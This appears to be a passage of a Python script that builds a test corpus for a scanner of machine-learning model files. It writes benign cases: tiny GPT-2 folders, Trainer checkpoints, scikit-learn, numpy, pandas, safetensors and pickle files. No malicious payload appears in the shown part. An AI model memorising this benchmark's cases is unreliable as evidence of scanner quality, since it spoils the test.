def _tokenizer_files(dst: Path) -> None:
    import json

    vocab = {f"t{i}": i for i in range(100)}
    tok = {
        "version": "1.0",
        "truncation": None,
        "padding": None,
        "added_tokens": [],
        "normalizer": None,
        "pre_tokenizer": {"type": "Whitespace"},
        "post_processor": None,
        "decoder": None,
        "model": {"type": "WordLevel", "vocab": vocab, "unk_token": "t0"},
    }
    (dst / "tokenizer.json").write_text(json.dumps(tok))
    cfg = {
        "tokenizer_class": "PreTrainedTokenizerFast",
        "unk_token": "t0",
        "chat_template": _CHAT_TEMPLATE,
    }
    (dst / "tokenizer_config.json").write_text(json.dumps(cfg, indent=2))


@_ben(
    "hf-gpt2-safetensors-folder",
    "HF tiny GPT-2 save_pretrained (model.safetensors, config, tokenizer with chat template)",
)
def _hf_st(ctx: _Ctx, n: str) -> Path:
    dst = ctx.ben / n
    _gpt2(ctx).save_pretrained(dst)
    _tokenizer_files(dst)
    return dst


@_ben(
    "hf-gpt2-bin-folder",
    "HF tiny GPT-2 folder with pytorch_model.bin (torch.save of the state_dict)",
)
def _hf_bin(ctx: _Ctx, n: str) -> Path:
    model = _gpt2(ctx)
    dst = ctx.ben / n
    dst.mkdir()
    model.config.to_json_file(dst / "config.json")
    model.generation_config.to_json_file(dst / "generation_config.json")
    _write(dst / "pytorch_model.bin", _torch_bytes(model.state_dict()))
    return dst


def _trainer_checkpoint(ctx: _Ctx) -> dict[str, Any]:
    """A real 2-step transformers Trainer run on random tokens; returns its checkpoint folder
    and the in-memory structures it saved (to build poisoned copies without loading)."""

    def make() -> dict[str, Any]:
        torch = _torch()
        out = ctx.scratch / "trainer"
        try:
            import accelerate  # noqa: F401 - TrainingArguments needs it
        except ImportError:
            return _fake_trainer_checkpoint(ctx, out)
        import transformers

        class Tokens(torch.utils.data.Dataset):  # type: ignore[misc]
            def __len__(self) -> int:
                return 8

            def __getitem__(self, i: int) -> dict[str, Any]:
                g = torch.Generator().manual_seed(i)
                x = torch.randint(0, 100, (16,), generator=g)
                return {"input_ids": x, "labels": x}

        args = transformers.TrainingArguments(
            output_dir=str(out),
            max_steps=2,
            per_device_train_batch_size=4,
            save_steps=2,
            report_to=[],
            use_cpu=True,
            logging_steps=1,
            disable_tqdm=True,
            seed=0,
            dataloader_num_workers=0,
            dataloader_pin_memory=False,
        )
        model = copy.deepcopy(_gpt2(ctx))
        trainer = transformers.Trainer(model=model, args=args, train_dataset=Tokens())
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            trainer.train()
        return {
            "path": out / "checkpoint-2",
            "optimizer": trainer.optimizer.state_dict(),
            "scheduler": trainer.lr_scheduler.state_dict(),
            "rng": _rng_state(),
            "args": args,
        }

    return ctx.cached("trainer", make)  # type: ignore[no-any-return]


def _fake_trainer_checkpoint(ctx: _Ctx, out: Path) -> dict[str, Any]:
    """Without accelerate, TrainingArguments() cannot be built: write the same files by hand,
    with a TrainingArguments instance whose fields hold their defaults."""
    import dataclasses

    import transformers

    torch = _torch()
    model = copy.deepcopy(_gpt2(ctx))
    opt = torch.optim.AdamW(model.parameters(), lr=5e-5)
    model(torch.randint(0, 100, (2, 8)), labels=torch.randint(0, 100, (2, 8))).loss.backward()
    opt.step()
    sched = torch.optim.lr_scheduler.LambdaLR(opt, lambda s: 1.0)
    cls = transformers.TrainingArguments
    args = cls.__new__(cls)
    for f in dataclasses.fields(cls):
        if f.default is not dataclasses.MISSING:
            value = f.default
        elif f.default_factory is not dataclasses.MISSING:
            value = f.default_factory()
        else:
            value = None
        vars(args)[f.name] = value
    vars(args)["output_dir"] = str(out)
    dst = out / "checkpoint-2"
    model.save_pretrained(dst)
    state = {
        "optimizer": opt.state_dict(),
        "scheduler": sched.state_dict(),
        "rng": _rng_state(),
        "args": args,
    }
    for fname, key in (
        ("optimizer.pt", "optimizer"),
        ("scheduler.pt", "scheduler"),
        ("rng_state.pth", "rng"),
        ("training_args.bin", "args"),
    ):
        _write(dst / fname, _torch_bytes(state[key]))
    (dst / "trainer_state.json").write_text('{"global_step": 2}')
    return {"path": dst, **state}


@_ben(
    "hf-trainer-checkpoint-folder",
    "real 2-step Trainer checkpoint: optimizer.pt scheduler.pt rng_state.pth training_args.bin",
)
def _hf_trainer(ctx: _Ctx, n: str) -> Path:
    dst = ctx.ben / n
    shutil.copytree(_trainer_checkpoint(ctx)["path"], dst)
    return dst


# ---------------------------------------------------------------------------------------
# Benign: scikit-learn, joblib, numpy, pandas, safetensors, DCP, plain pickle.


def _sk_models(ctx: _Ctx) -> dict[str, Any]:
    def make() -> dict[str, Any]:
        import numpy as np
        from sklearn.cluster import KMeans
        from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import StandardScaler

        rng = np.random.default_rng(0)
        x = rng.normal(size=(60, 4))
        y = (x[:, 0] + x[:, 1] > 0).astype(int)
        return {
            "logreg": LogisticRegression(max_iter=200).fit(x, y),
            "random-forest": RandomForestClassifier(
                n_estimators=4, max_depth=3, random_state=0
            ).fit(x, y),
            "pipeline": Pipeline(
                [("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]
            ).fit(x, y),
            "kmeans": KMeans(n_clusters=3, n_init=1, random_state=0).fit(x),
            "gradient-boosting": GradientBoostingClassifier(
                n_estimators=5, max_depth=2, random_state=0
            ).fit(x, y),
        }

    return ctx.cached("sklearn", make)  # type: ignore[no-any-return]


def _sk_case(key: str, label: str, compress: Any = 0, clabel: str = "") -> None:
    name = f"sklearn-{key}" + (f"-{clabel}" if clabel else "")
    how = f"joblib.dump compressed with {clabel}" if clabel else "joblib.dump"

    @_ben(name, f"scikit-learn {label}, {how}")
    def build(ctx: _Ctx, n: str) -> Path:
        import joblib

        path = ctx.ben / f"{n}.joblib"
        joblib.dump(_sk_models(ctx)[key], path, compress=compress)
        return path


_sk_case("logreg", "LogisticRegression")
_sk_case("random-forest", "RandomForestClassifier")
_sk_case("pipeline", "StandardScaler+LogisticRegression Pipeline")
_sk_case("kmeans", "KMeans")
_sk_case("gradient-boosting", "GradientBoostingClassifier")
_sk_case("random-forest", "RandomForestClassifier", 3, "zlib")
_sk_case("pipeline", "Pipeline", ("gzip", 3), "gzip")
_sk_case("gradient-boosting", "GradientBoostingClassifier", ("lz4", 3), "lz4")
_sk_case("kmeans", "KMeans", ("xz", 3), "xz")
_sk_case("logreg", "LogisticRegression", ("bz2", 3), "bz2")


@_ben("joblib-numpy-dict", "joblib.dump of a dict of numpy arrays")
def _joblib_np(ctx: _Ctx, n: str) -> Path:
    import joblib
    import numpy as np

    path = ctx.ben / f"{n}.joblib"
    joblib.dump(
        {"w": np.arange(12.0).reshape(3, 4), "b": np.zeros(3, dtype=np.int32), "name": "x"}, path
    )
    return path


@_ben("numpy-npy-float32", "numpy .npy numeric array")
def _npy_ok(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    path = ctx.ben / f"{n}.npy"
    np.save(path, np.linspace(0, 1, 12, dtype=np.float32).reshape(3, 4))
    return path


@_ben("numpy-npz", "numpy .npz of several numeric arrays")
def _npz_ok(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    path = ctx.ben / f"{n}.npz"
    np.savez(path, a=np.arange(5), b=np.ones((2, 2), dtype=np.float16), c=np.array([True, False]))
    return path


@_ben("numpy-npz-compressed", "numpy savez_compressed of numeric arrays")
def _npzc_ok(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    path = ctx.ben / f"{n}.npz"
    np.savez_compressed(path, emb=np.zeros((16, 8), dtype=np.float32), ids=np.arange(16))
    return path


def _dataframe() -> Any:
    import numpy as np
    import pandas as pd

    return pd.DataFrame(
        {
            "step": np.arange(4),
            "loss": np.array([2.0, 1.5, 1.2, 1.1]),
            "split": ["train", "train", "val", "val"],
            "ts": pd.date_range("2025-01-01", periods=4, freq="h"),
        }
    )


@_ben("pandas-dataframe-pickle", "pandas DataFrame.to_pickle (int/float/str/datetime columns)")
def _pd_ok(ctx: _Ctx, n: str) -> Path:
    path = ctx.ben / f"{n}.pkl"
    _dataframe().to_pickle(path)
    return path


@_ben("safetensors-torch", "safetensors.torch.save_file")
def _st_torch(ctx: _Ctx, n: str) -> Path:
    from safetensors.torch import save_file

    path = ctx.ben / f"{n}.safetensors"
    save_file(
        {k: v.contiguous() for k, v in _net(ctx, "cnn").state_dict().items()},
        str(path),
        metadata={"format": "pt"},
    )
    return path


@_ben("safetensors-numpy", "safetensors.numpy.save_file")
def _st_numpy(ctx: _Ctx, n: str) -> Path:
    import numpy as np
    from safetensors.numpy import save_file

    path = ctx.ben / f"{n}.safetensors"
    save_file(
        {"a": np.arange(6, dtype=np.int64), "b": np.ones((2, 3), dtype=np.float32)}, str(path)
    )
    return path


def _dcp_folder(ctx: _Ctx) -> Path:
    def make() -> Path:
        import torch.distributed.checkpoint as dcp

        out = ctx.scratch / "dcp"
        state = {
            "model": _net(ctx, "mlp").state_dict(),
            "optim": _optimizers(ctx)["adam"]["param_groups"][0]["lr"],
        }
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            dcp.save(state, storage_writer=dcp.FileSystemWriter(str(out)))
        return out

    return ctx.cached("dcp", make)  # type: ignore[no-any-return]


@_ben(
    "torch-dcp-folder",
    "torch.distributed.checkpoint.save with FileSystemWriter, single process (.metadata + .distcp)",
)
def _dcp_ok(ctx: _Ctx, n: str) -> Path:
    dst = ctx.ben / n
    shutil.copytree(_dcp_folder(ctx), dst)
    return dst


_PLAIN = {
    "ints": [0, 1, -5, 2**70],
    "floats": [0.5, float("inf"), -1e-300],
    "bytes": b"\x00\x01weights",
    "text": "héllo",
    "nested": {"t": (1, 2, (3,)), "none": None, "flags": [True, False]},
    "set": {1, 2, 3},
    "frozen": frozenset({"a"}),
}


def _plain_case(proto: int) -> None:
    @_ben(
        f"pickle-plain-p{proto}",
        f"plain pickle (protocol {proto}) of dict/list/ints/floats/bytes/sets",
    )
    def build(ctx: _Ctx, n: str) -> Path:
        return _write(ctx.ben / f"{n}.pkl", pickle.dumps(_PLAIN, protocol=proto))


for _proto in (0, 2, 5):
    _plain_case(_proto)


# ---------------------------------------------------------------------------------------
# Benign: more of what real users save.


@_ben(
    "torch-whole-module-weight-norm",
    "whole module using the classic torch.nn.utils.weight_norm hook",
)
def _weight_norm(ctx: _Ctx, n: str) -> Path:
    torch = _torch()
    torch.manual_seed(0)
    m = torch.nn.Sequential(torch.nn.utils.weight_norm(torch.nn.Conv1d(4, 4, 3)), torch.nn.Tanh())
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(m))


@_ben(
    "torch-whole-module-quantized-dynamic",
    "whole module after torch.ao.quantization.quantize_dynamic (qint8 Linear)",
)
def _quantized(ctx: _Ctx, n: str) -> Path:
    torch = _torch()
    torch.manual_seed(0)
    m = torch.nn.Sequential(torch.nn.Linear(8, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    q = torch.ao.quantization.quantize_dynamic(m, {torch.nn.Linear}, dtype=torch.qint8)
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(q))


@_ben("torch-whole-module-swa-averaged", "whole torch.optim.swa_utils.AveragedModel (EMA/SWA copy)")
def _swa(ctx: _Ctx, n: str) -> Path:
    torch = _torch()
    avg = torch.optim.swa_utils.AveragedModel(_net(ctx, "mlp"))
    avg.update_parameters(_net(ctx, "mlp"))
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(avg))


@_ben(
    "torch-state-dict-quantized-static",
    "state_dict of a statically quantized (per-tensor/per-channel) conv net",
)
def _quantized_static_sd(ctx: _Ctx, n: str) -> Path:
    torch = _torch()
    t = torch.randn(4, 4)
    sd = {
        "w_per_tensor": torch.quantize_per_tensor(t, 0.1, 0, torch.qint8),
        "w_per_channel": torch.quantize_per_channel(
            t, torch.full((4,), 0.1), torch.zeros(4, dtype=torch.long), 0, torch.qint8
        ),
        "act": torch.quantize_per_tensor(t.abs(), 0.05, 3, torch.quint8),
    }
    return _write(ctx.ben / f"{n}.pt", _torch_bytes(sd))


def _more_sk(ctx: _Ctx) -> dict[str, Any]:
    def make() -> dict[str, Any]:
        import numpy as np
        import pandas as pd
        from sklearn.compose import ColumnTransformer
        from sklearn.ensemble import HistGradientBoostingClassifier
        from sklearn.feature_extraction.text import TfidfVectorizer
        from sklearn.impute import SimpleImputer
        from sklearn.linear_model import LogisticRegression
        from sklearn.neural_network import MLPClassifier
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler
        from sklearn.svm import SVC

        rng = np.random.default_rng(0)
        x = rng.normal(size=(60, 4))
        y = (x[:, 0] > 0).astype(int)
        frame = pd.DataFrame({"num": x[:, 0], "cat": rng.choice(["a", "b", "c"], 60)})
        ct = ColumnTransformer(
            [
                ("num", Pipeline([("imp", SimpleImputer()), ("sc", StandardScaler())]), ["num"]),
                ("cat", OneHotEncoder(handle_unknown="ignore"), ["cat"]),
            ]
        )
        texts = ["the cat sat", "a dog ran", "the dog sat", "a cat ran"] * 5
        return {
            "column-transformer": Pipeline([("prep", ct), ("clf", LogisticRegression())]).fit(
                frame, y
            ),
            "hist-gradient-boosting": HistGradientBoostingClassifier(
                max_iter=5, random_state=0
            ).fit(x, y),
            "mlp": MLPClassifier(hidden_layer_sizes=(8,), max_iter=20, random_state=0).fit(x, y),
            "svc": SVC(probability=False).fit(x, y),
            "tfidf": TfidfVectorizer().fit(texts),
            "function-transformer-log1p": Pipeline(
                [("log", FunctionTransformer(np.log1p)), ("clf", LogisticRegression())]
            ).fit(np.abs(x), y),
        }

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return ctx.cached("more_sk", make)  # type: ignore[no-any-return]


def _more_sk_case(key: str, label: str) -> None:
    @_ben(f"sklearn-{key}", f"scikit-learn {label}, joblib.dump")
    def build(ctx: _Ctx, n: str) -> Path:
        import joblib

        path = ctx.ben / f"{n}.joblib"
        joblib.dump(_more_sk(ctx)[key], path)
        return path


_more_sk_case(
    "column-transformer",
    "ColumnTransformer(SimpleImputer, StandardScaler, OneHotEncoder) + LogisticRegression",
)
_more_sk_case("hist-gradient-boosting", "HistGradientBoostingClassifier")
_more_sk_case("mlp", "MLPClassifier")
_more_sk_case("svc", "SVC")
_more_sk_case("tfidf", "TfidfVectorizer")
_more_sk_case(
    "function-transformer-log1p", "Pipeline(FunctionTransformer(numpy.log1p), LogisticRegression)"
)


@_ben(
    "sklearn-random-forest-pickle",
    "scikit-learn RandomForestClassifier with plain pickle.dump (protocol 5)",
)
def _sk_pickle(ctx: _Ctx, n: str) -> Path:
    return _write(ctx.ben / f"{n}.pkl", pickle.dumps(_sk_models(ctx)["random-forest"], protocol=5))


@_ben(
    "joblib-numpy-mixed-dtypes",
    "joblib.dump of arrays: f2/c16/bool/u2/datetime64/<U5/record/F-order/0-d/empty/object str",
)
def _joblib_mixed(ctx: _Ctx, n: str) -> Path:
    import joblib
    import numpy as np

    obj = {
        "f16": np.ones(3, dtype=np.float16),
        "c128": np.arange(3, dtype=np.complex128),
        "bool": np.array([True, False, True]),
        "u16": np.arange(5, dtype=np.uint16),
        "dt": np.array(["2025-01-01", "2025-01-02"], dtype="datetime64[ns]"),
        "text": np.array(["ab", "cde"], dtype="<U5"),
        "rec": np.zeros(2, dtype=[("x", "<f4"), ("y", "<i8")]),
        "fortran": np.asfortranarray(np.arange(6.0).reshape(2, 3)),
        "scalar0d": np.array(3.5),
        "empty": np.zeros((0, 4)),
        "objects": np.array(["a", "bb", None], dtype=object),
    }
    path = ctx.ben / f"{n}.joblib"
    joblib.dump(obj, path)
    return path


@_ben("numpy-npy-structured", "numpy .npy structured (record) array, no objects")
def _npy_struct(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    path = ctx.ben / f"{n}.npy"
    np.save(path, np.zeros(3, dtype=[("id", "<i8"), ("score", "<f4"), ("tag", "S4")]))
    return path


@_ben("numpy-npy-unicode-fortran", "numpy .npy of a '<U8' string array and Fortran order")
def _npy_unicode(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    path = ctx.ben / f"{n}.npy"
    np.save(path, np.asfortranarray(np.array([["alpha", "beta"], ["gamma", "delta"]], dtype="<U8")))
    return path


@_ben("numpy-npy-format-v3", "numpy .npy format version 3.0 (utf-8 field names)")
def _npy_v3(ctx: _Ctx, n: str) -> Path:
    import numpy as np

    arr = np.zeros(2, dtype=[("größe", "<f8")])
    path = ctx.ben / f"{n}.npy"
    with open(path, "wb") as fh:
        np.lib.format.write_array(fh, arr, version=(3, 0))
    return path


@_ben(
    "pandas-categorical-multiindex",
    "pandas DataFrame with Categorical, nullable Int64, bool, float32 and a MultiIndex, to_pickle",
)
def _pd_more(ctx: _Ctx, n: str) -> Path:
    import numpy as np
    import pandas as pd

    idx = pd.MultiIndex.from_product([["a", "b"], [1, 2]], names=["grp", "k"])
    df = pd.DataFrame(
        {
            "cat": pd.Categorical(["x", "y", "x", "z"]),
            "n": pd.array([1, None, 3, 4], dtype="Int64"),
            "flag": [True, False, True, True],
            "f32": np.arange(4, dtype=np.float32),
        },
        index=idx,
    )
    path = ctx.ben / f"{n}.pkl"
    df.to_pickle(path)
    return path


@_ben("pandas-series-pickle", "pandas float Series with a DatetimeIndex, to_pickle")
def _pd_series(ctx: _Ctx, n: str) -> Path:
    import numpy as np
    import pandas as pd

    s = pd.Series(
        np.arange(5.0), index=pd.date_range("2025-01-01", periods=5, freq="D"), name="loss"
    )
    path = ctx.ben / f"{n}.pkl"
    s.to_pickle(path)
    return path


# ---------------------------------------------------------------------------------------


def build_corpus(root: Path) -> list[Case]:
    """Write every case under ``root`` (created if needed) and return the cases."""
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    ctx = _Ctx(root)
    cases: list[Case] = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for spec in SPECS:
            path = spec.build(ctx, spec.name)
            cases.append(Case(spec.name, path, spec.malicious, spec.technique, spec.expect))
    shutil.rmtree(ctx.scratch / "trainer", ignore_errors=True)
    return cases
